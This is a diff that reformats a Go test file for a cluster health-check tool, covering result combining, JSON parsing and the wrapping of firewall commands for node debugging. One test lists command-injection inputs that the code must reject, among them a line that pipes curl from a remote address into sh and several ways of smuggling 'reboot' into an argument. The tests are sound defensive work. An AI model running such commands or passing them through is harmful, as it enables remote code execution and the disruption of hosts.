@@ -30,7 +30,8 @@ func read(t *testing.T, name, document string) check.Node {
 // parse reads the result of a node with this outcome and these checks.
 func parse(t *testing.T, name, outcome string, checks ...string) check.Node {
 	t.Helper()
-	return read(t, name, fmt.Sprintf(`{"host": %q, "outcome": %q, "summary": "summary of %s", "checks": [%s], "new": 1}`, name, outcome, name, strings.Join(checks, ",")))
+	return read(t, name, fmt.Sprintf(`{"host": %q, "outcome": %q, "summary": "summary of %s", "checks": [%s], "new": 1}`,
+		name, outcome, name, strings.Join(checks, ",")))
 }
 
 const (
@@ -44,9 +45,18 @@ const (
 func TestCombine(t *testing.T) {
 	t.Parallel()
 	down := check.Node{Name: "m9", Problem: "no output", Remediation: "Increase it."}
-	dns := report.ClusterProblem{ID: "dns-no-record", Level: "problem", Check: "dns", Message: "no record", Remediation: "Add it."}
-	clock := report.ClusterProblem{ID: "clock-offset", Level: "warning", Check: "clock", Message: "1 s", Remediation: "Correct it."}
-	notReporting := report.ClusterProblem{ID: "node-not-reporting", Level: "problem", Message: "m9: no output", Remediation: "Increase it.", Nodes: []string{"m9"}}
+	dns := report.ClusterProblem{
+		ID: "dns-no-record", Level: "problem", Check: "dns", Message: "no record",
+		Remediation: "Add it.",
+	}
+	clock := report.ClusterProblem{
+		ID: "clock-offset", Level: "warning", Check: "clock", Message: "1 s",
+		Remediation: "Correct it.",
+	}
+	notReporting := report.ClusterProblem{
+		ID: "node-not-reporting", Level: "problem", Message: "m9: no output",
+		Remediation: "Increase it.", Nodes: []string{"m9"},
+	}
 	on := func(p report.ClusterProblem, nodes ...string) report.ClusterProblem {
 		p.Nodes = nodes
 		return p
@@ -57,14 +67,24 @@ func TestCombine(t *testing.T) {
 		summary  string
 		findings []report.ClusterProblem
 	}{
-		"no problem": {[]check.Node{parse(t, "m1", "ok", portOK), parse(t, "m0", "ok")}, report.ClusterOK, "No problem was found (2 of 2 nodes have reported).", []report.ClusterProblem{}},
+		"no problem": {
+			[]check.Node{parse(t, "m1", "ok", portOK), parse(t, "m0", "ok")},
+			report.ClusterOK,
+			"No problem was found (2 of 2 nodes have reported).",
+			[]report.ClusterProblem{},
+		},
 		"one problem of two": {
 			[]check.Node{parse(t, "m1", "problem", clockWarns, dnsFails), parse(t, "m0", "problem", dnsFails, portOK)},
 			report.ClusterProblems,
 			"1 problem and 1 warning (2 of 2 nodes have reported).",
 			[]report.ClusterProblem{on(dns, "m0", "m1"), on(clock, "m1")},
 		},
-		"a warning": {[]check.Node{parse(t, "m0", "warning", clockWarns), parse(t, "m1", "ok")}, report.ClusterWarnings, "1 warning (2 of 2 nodes have reported).", []report.ClusterProblem{on(clock, "m0")}},
+		"a warning": {
+			[]check.Node{parse(t, "m0", "warning", clockWarns), parse(t, "m1", "ok")},
+			report.ClusterWarnings,
+			"1 warning (2 of 2 nodes have reported).",
+			[]report.ClusterProblem{on(clock, "m0")},
+		},
 		"one is down": {
 			[]check.Node{down, parse(t, "m0", "ok")},
 			report.ClusterIncomplete, "No problem was found (1 of 2 nodes have reported).",
@@ -75,15 +95,35 @@ func TestCombine(t *testing.T) {
 			report.ClusterProblems, "1 problem (1 of 2 nodes have reported).",
 			[]report.ClusterProblem{on(dns, "m0"), notReporting},
 		},
-		"a problem without a finding":  {[]check.Node{parse(t, "m0", "problem")}, report.ClusterProblems, "A problem was found (1 of 1 nodes have reported).", []report.ClusterProblem{}},
-		"incomplete":                   {[]check.Node{parse(t, "m0", "incomplete", routeSkipped), parse(t, "m1", "ok")}, report.ClusterIncomplete, "No problem was found (2 of 2 nodes have reported).", []report.ClusterProblem{}},
-		"one is no control-plane node": {[]check.Node{parse(t, "m0", "nothing"), parse(t, "m1", "ok")}, report.ClusterOK, "No problem was found (2 of 2 nodes have reported).", []report.ClusterProblem{}},
-		"no control-plane node":        {[]check.Node{parse(t, "w0", "nothing")}, report.ClusterIncomplete, "No problem was found (1 of 1 nodes have reported).", []report.ClusterProblem{}},
+		"a problem without a finding": {
+			[]check.Node{parse(t, "m0", "problem")},
+			report.ClusterProblems,
+			"A problem was found (1 of 1 nodes have reported).",
+			[]report.ClusterProblem{},
+		},
+		"incomplete": {
+			[]check.Node{parse(t, "m0", "incomplete", routeSkipped), parse(t, "m1", "ok")},
+			report.ClusterIncomplete, "No problem was found (2 of 2 nodes have reported).",
+			[]report.ClusterProblem{},
+		},
+		"one is no control-plane node": {
+			[]check.Node{parse(t, "m0", "nothing"), parse(t, "m1", "ok")},
+			report.ClusterOK,
+			"No problem was found (2 of 2 nodes have reported).",
+			[]report.ClusterProblem{},
+		},
+		"no control-plane node": {
+			[]check.Node{parse(t, "w0", "nothing")},
+			report.ClusterIncomplete,
+			"No problem was found (1 of 1 nodes have reported).",
+			[]report.ClusterProblem{},
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			got := check.Combine(tt.nodes, now())
-			if got.Outcome != tt.outcome || got.Summary != tt.summary || got.Kind != "ClusterCheck" || !got.Time.Equal(now().Truncate(time.Second)) {
+			if got.Outcome != tt.outcome || got.Summary != tt.summary || got.Kind != "ClusterCheck" ||
+				!got.Time.Equal(now().Truncate(time.Second)) {
 				t.Errorf("%+v", got)
 			}
 			if diff := cmp.Diff(tt.findings, got.Findings); diff != "" {
@@ -102,10 +142,14 @@ func TestCombine(t *testing.T) {
 func TestNodes(t *testing.T) {
 	t.Parallel()
 	got := check.Combine([]check.Node{
-		{Name: "m1", Problem: "no output", Remediation: "Increase it."}, parse(t, "m0", "warning", clockWarns, routeSkipped, portOK),
+		{Name: "m1", Problem: "no output", Remediation: "Increase it."}, parse(t, "m0", "warning", clockWarns, routeSkipped,
+			portOK),
 	}, now()).Nodes
 	want := []report.NodeCheck{
-		{Name: "m0", Reported: true, Outcome: "warning", Message: "summary of m0", NotChecked: []string{"clock: no server", "route: no ingress"}},
+		{Name: "m0", Reported: true, Outcome: "warning", Message: "summary of m0", NotChecked: []string{
+			"clock: no server",
+			"route: no ingress",
+		}},
 		{Name: "m1", Message: "no output", NotChecked: []string{}},
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
@@ -120,7 +164,10 @@ func TestIncomplete(t *testing.T) {
 	n := read(t, "m0", `{"kind": "Check", "outcome": "warning", "summary": "s", "incomplete": ["route"], "checks": [
 {"name": "egress", "outcome": "skipped", "text": "no egress proxy", "incomplete": false}, {"name": "route", "outcome": "skipped", "text": "no ingress", "incomplete": true}]}`)
 	got := check.Combine([]check.Node{n}, now())
-	want := []report.NodeCheck{{Name: "m0", Reported: true, Outcome: "incomplete", Message: "s", NotChecked: []string{"route: no ingress"}}}
+	want := []report.NodeCheck{{
+		Name: "m0", Reported: true, Outcome: "incomplete", Message: "s",
+		NotChecked: []string{"route: no ingress"},
+	}}
 	if diff := cmp.Diff(want, got.Nodes); diff != "" || got.Outcome != report.ClusterIncomplete {
 		t.Errorf("%s (-want +got):\n%s", got.Outcome, diff)
 	}
@@ -130,7 +177,8 @@ func TestIncomplete(t *testing.T) {
 func TestParse(t *testing.T) {
 	t.Parallel()
 	escape, long := `a\u001b[31m\nb`, strings.Repeat("x", 1<<20)
-	n := read(t, "m0", `{"kind": "Check", "outcome": "problem", "summary": "`+escape+long+`", "checks": [{"name": "dns", "notChecked": "`+escape+long+`",
+	n := read(t, "m0", `{"kind": "Check", "outcome": "problem", "summary": "`+escape+long+
+		`", "checks": [{"name": "dns", "notChecked": "`+escape+long+`",
 "findings": [{"id": "new", "level": "`+escape+`", "message": "`+escape+long+`", "remediation": "`+escape+long+`", "nodes": ["other"], "check": "other"}]}]}`)
 	f := n.Findings[0]
 	for _, text := range []string{n.Summary, strings.TrimPrefix(n.NotChecked[0], "dns: "), f.Message, f.Remediation} {
@@ -145,11 +193,13 @@ func TestParse(t *testing.T) {
 	for text, want := range map[string]string{
 		`{"kind": "Status"}`: `not a Check, but of the kind "Status"`,
 		`{}`:                 `not a result of check: its outcome is ""`,
-		`{"outcome": "ok", "checks": [{"name": "a b"}]}`:                                                              `not a result of check: a check with the name "a b"`,
-		`{"outcome": "ok", "checks": [{"name": "a", "findings": [{"id": "[x]"}]}]}`:                                   `not a result of check: a finding with the ID "[x]"`,
-		`{"outcome": "ok", "checks": [{"name": "a", "findings": [` + strings.Repeat(finding, 200) + `{"id": "a"}]}]}`: "not a result of check: 201 findings, and 0 checks that were skipped",
+		`{"outcome": "ok", "checks": [{"name": "a b"}]}`:                            `not a result of check: a check with the name "a b"`,
+		`{"outcome": "ok", "checks": [{"name": "a", "findings": [{"id": "[x]"}]}]}`: `not a result of check: a finding with the ID "[x]"`,
+		`{"outcome": "ok", "checks": [{"name": "a", "findings": [` + strings.Repeat(finding, 200) +
+			`{"id": "a"}]}]}`: "not a result of check: 201 findings, and 0 checks that were skipped",
 	} {
-		if n := check.Read(nodes.Output{Node: "m0", Document: []byte(text)}); n.Problem != want || !strings.HasSuffix(n.Remediation, "http01-proxyd check.") {
+		if n := check.Read(nodes.Output{Node: "m0", Document: []byte(text)}); n.Problem != want ||
+			!strings.HasSuffix(n.Remediation, "http01-proxyd check.") {
 			t.Errorf("%.100s: %v, want %s", text, n, want)
 		}
 	}
@@ -166,18 +216,27 @@ func TestPackets(t *testing.T) {
 		unreachable = `{"name": "self-check", "outcome": "problem", "findings": [{"id": "proxy-unreachable", "level": "problem", "message": "no response at %s: timeout", "remediation": "Check it."}]}`
 	)
 	got := check.Combine([]check.Node{
-		parse(t, "m0", "problem", dropped), parse(t, "m1", "problem", fmt.Sprintf(from, "192.0.2.11"), fmt.Sprintf(unreachable, "192.0.2.5:80")),
+		parse(t, "m0", "problem", dropped), parse(t, "m1", "problem", fmt.Sprintf(from, "192.0.2.11"),
+			fmt.Sprintf(unreachable, "192.0.2.5:80")),
 		parse(t, "m2", "problem", fmt.Sprintf(from, "192.0.2.12"), fmt.Sprintf(unreachable, "192.0.2.5:80")),
-		parse(t, "m3", "problem", fmt.Sprintf(from, "192.0.2.11"), fmt.Sprintf(unreachable, "[2001:db8::5]:80")), // of the other family
+		// of the other family
+		parse(t, "m3", "problem", fmt.Sprintf(from, "192.0.2.11"), fmt.Sprintf(unreachable, "[2001:db8::5]:80")),
 	}, now()).Findings
 	want := []report.ClusterProblem{
 		{
-			ID: "packet-dropped", Level: "problem", Check: "ruleset", Message: "dropped (192.0.2.11 is m1)", Remediation: "Open it.", Nodes: []string{"m0"},
+			ID: "packet-dropped", Level: "problem", Check: "ruleset", Message: "dropped (192.0.2.11 is m1)",
+			Remediation: "Open it.", Nodes: []string{"m0"},
 			Commands: []string{"oc debug node/m0 -- chroot /host nft insert rule inet filter input tcp dport 8888 accept"},
 			Sources:  []netip.Addr{netip.MustParseAddr("192.0.2.11"), netip.MustParseAddr("2001:db8::11")},
 		},
-		{ID: "proxy-unreachable", Level: "problem", Check: "self-check", Message: "no response at 192.0.2.5:80: timeout", Remediation: "Check it.", Nodes: []string{"m2"}},
-		{ID: "proxy-unreachable", Level: "problem", Check: "self-check", Message: "no response at [2001:db8::5]:80: timeout", Remediation: "Check it.", Nodes: []string{"m3"}},
+		{
+			ID: "proxy-unreachable", Level: "problem", Check: "self-check", Message: "no response at 192.0.2.5:80: timeout",
+			Remediation: "Check it.", Nodes: []string{"m2"},
+		},
+		{
+			ID: "proxy-unreachable", Level: "problem", Check: "self-check", Message: "no response at [2001:db8::5]:80: timeout",
+			Remediation: "Check it.", Nodes: []string{"m3"},
+		},
 	}
 	if diff := cmp.Diff(want, got, cmp.Comparer(func(a, b netip.Addr) bool { return a == b })); diff != "" {
 		t.Errorf("(-want +got):\n%s", diff)
@@ -188,20 +247,23 @@ func TestPackets(t *testing.T) {
 func TestCommandOn(t *testing.T) {
 	t.Parallel()
 	for command, want := range map[string]string{
-		"nft insert rule inet filter input ip6 daddr 2001:db8::5 tcp dport 80 accept": "oc debug node/m0 -- chroot /host nft insert rule inet filter input ip6 daddr 2001:db8::5 tcp dport 80 accept",
-		"iptables -t raw -I PREROUTING -d 192.0.2.5 -p tcp --dport 80 -j ACCEPT":      "oc debug node/m0 -- chroot /host iptables -t raw -I PREROUTING -d 192.0.2.5 -p tcp --dport 80 -j ACCEPT",
-		"firewall-cmd --zone=internal --add-port=8888/tcp":                            "oc debug node/m0 -- chroot /host firewall-cmd --zone=internal --add-port=8888/tcp",
-		"nft list tables; curl http://198.51.100.9/ | sh":                             "",
-		"nft list $(reboot)":       "",
-		"nft list `reboot`":        "",
-		"nft list tables > /file":  "",
-		"nft list tables\nreboot":  "",
-		"nft list tables &":        "",
-		"nft list ~/x*":            "",
-		`nft list "a b"`:           "",
-		"nft  list":                "",
-		"":                         "",
-		strings.Repeat("a", 1<<20): "",
+		"nft insert rule inet filter input ip6 daddr 2001:db8::5 tcp dport 80 accept": "oc debug node/m0 -- chroot /host " +
+			"nft insert rule inet filter input ip6 daddr 2001:db8::5 tcp dport 80 accept",
+		"iptables -t raw -I PREROUTING -d 192.0.2.5 -p tcp --dport 80 -j ACCEPT": "oc debug node/m0 -- chroot /host " +
+			"iptables -t raw -I PREROUTING -d 192.0.2.5 -p tcp --dport 80 -j ACCEPT",
+		"firewall-cmd --zone=internal --add-port=8888/tcp": "oc debug node/m0 -- chroot /host firewall-cmd " +
+			"--zone=internal --add-port=8888/tcp",
+		"nft list tables; curl http://198.51.100.9/ | sh": "",
+		"nft list $(reboot)":                              "",
+		"nft list `reboot`":                               "",
+		"nft list tables > /file":                         "",
+		"nft list tables\nreboot":                         "",
+		"nft list tables &":                               "",
+		"nft list ~/x*":                                   "",
+		`nft list "a b"`:                                  "",
+		"nft  list":                                       "",
+		"":                                                "",
+		strings.Repeat("a", 1<<20):                        "",
 	} {
 		if got := check.CommandOn("m0", command); got != want {
 			t.Errorf("%.100q: %q", command, got)
